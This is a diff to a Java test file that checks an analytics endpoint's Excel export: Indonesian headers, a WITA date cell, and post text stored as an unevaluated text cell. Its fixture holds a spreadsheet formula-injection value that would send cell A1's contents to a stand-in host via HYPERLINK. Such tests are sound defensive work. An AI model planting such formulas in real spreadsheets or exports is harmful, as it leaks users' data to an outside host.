@@ -1,6 +1,8 @@
 package id.serambi.campaign.analytics;
 
 import static id.serambi.campaign.CampaignFixtures.markPublished;
+import id.serambi.support.Xlsx;
+import id.serambi.campaign.posts.ContentType;
 import static id.serambi.campaign.CampaignFixtures.post;
 import static id.serambi.campaign.CampaignFixtures.variant;
 import static id.serambi.campaign.CampaignFixtures.variantId;
@@ -164,5 +166,26 @@ class AnalyticsTest {
         assertEquals(2, records.size(), csv);
         assertEquals("'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");'=1+1", records.get(1).get(17), csv);
         assertEquals("100", records.get(1).get(7));
+
+        // Issue 17 point 11: the Excel file for people has Indonesian headers and words, a WITA date cell, and the
+        // text as a text cell (never evaluated), without the CSV's '.
+        byte[] file = given().auth().oauth2(staff).accept(Xlsx.MEDIA_TYPE)
+                .get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
+                .then().statusCode(200).contentType(startsWith(Xlsx.MEDIA_TYPE))
+                .header("Content-Disposition", org.hamcrest.Matchers.endsWith(".xlsx\"")).extract().asByteArray();
+        var rows = Xlsx.rows(file);
+        assertEquals(2, rows.size());
+        assertEquals(AnalyticsResource.XLSX_HEADER, Xlsx.texts(rows.get(0)));
+        var row = rows.get(1);
+        assertEquals("Facebook", row.getCellText(2));
+        assertEquals(AnalyticsResource.CONTENT_TYPE.get(ContentType.valueOf(
+                given().auth().oauth2(staff).get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
+                        .then().extract().path("posts[0].contentType"))), row.getCellText(3));
+        assertEquals(java.time.LocalDateTime.parse("2033-03-03T11:00"), row.getCellAsDate(5).orElseThrow(),
+                "03:00 UTC is 11:00 WITA, as a date cell");
+        assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, row.getCell(17).getType());
+        assertEquals("=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");=1+1", row.getCellText(17));
+        assertNull(row.getCell(17).getFormula());
+        assertEquals(100, row.getCellAsNumber(7).orElseThrow().intValue());
     }
 }
